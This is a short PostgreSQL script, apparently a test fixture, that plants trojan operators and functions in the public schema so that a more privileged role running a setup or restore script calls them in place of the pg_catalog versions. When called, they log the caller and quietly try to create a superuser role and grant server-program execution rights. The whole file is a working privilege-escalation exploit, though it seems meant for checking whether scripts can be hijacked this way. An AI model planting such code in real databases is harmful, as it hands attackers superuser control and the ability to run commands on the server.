-- Run as the app role in its database: code that records who ran it and tries to make a superuser.
CREATE TABLE public.planted_runs (who name, superuser boolean);
GRANT INSERT ON public.planted_runs TO PUBLIC;
CREATE FUNCTION public.planted_ran() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  INSERT INTO public.planted_runs SELECT current_user, rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user;
  BEGIN
    EXECUTE 'CREATE ROLE planted_' || pg_catalog.md5(pg_catalog.random()::text) || ' SUPERUSER';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    EXECUTE 'GRANT pg_execute_server_program TO ' || pg_catalog.quote_ident(session_user);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN true;
END $$;
-- Better matches than pg_catalog's for db/app-role.sql's `oid = 'public'::regnamespace`, `= '...'::regclass`
-- and pg_advisory_xact_lock(<integer>), and for the restore's quote_ident(<name>).
CREATE FUNCTION public.planted_eq(oid, regnamespace) RETURNS boolean LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.planted_ran(); RETURN $1 OPERATOR(pg_catalog.=) $2::oid; END $$;
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = regnamespace, FUNCTION = public.planted_eq);
CREATE FUNCTION public.planted_eq(oid, regclass) RETURNS boolean LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.planted_ran(); RETURN $1 OPERATOR(pg_catalog.=) $2::oid; END $$;
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = regclass, FUNCTION = public.planted_eq);
CREATE FUNCTION public.pg_advisory_xact_lock(integer) RETURNS void LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.planted_ran(); PERFORM pg_catalog.pg_advisory_xact_lock($1::bigint); END $$;
CREATE FUNCTION public.quote_ident(name) RETURNS text LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.planted_ran(); RETURN pg_catalog.quote_ident($1::text); END $$;
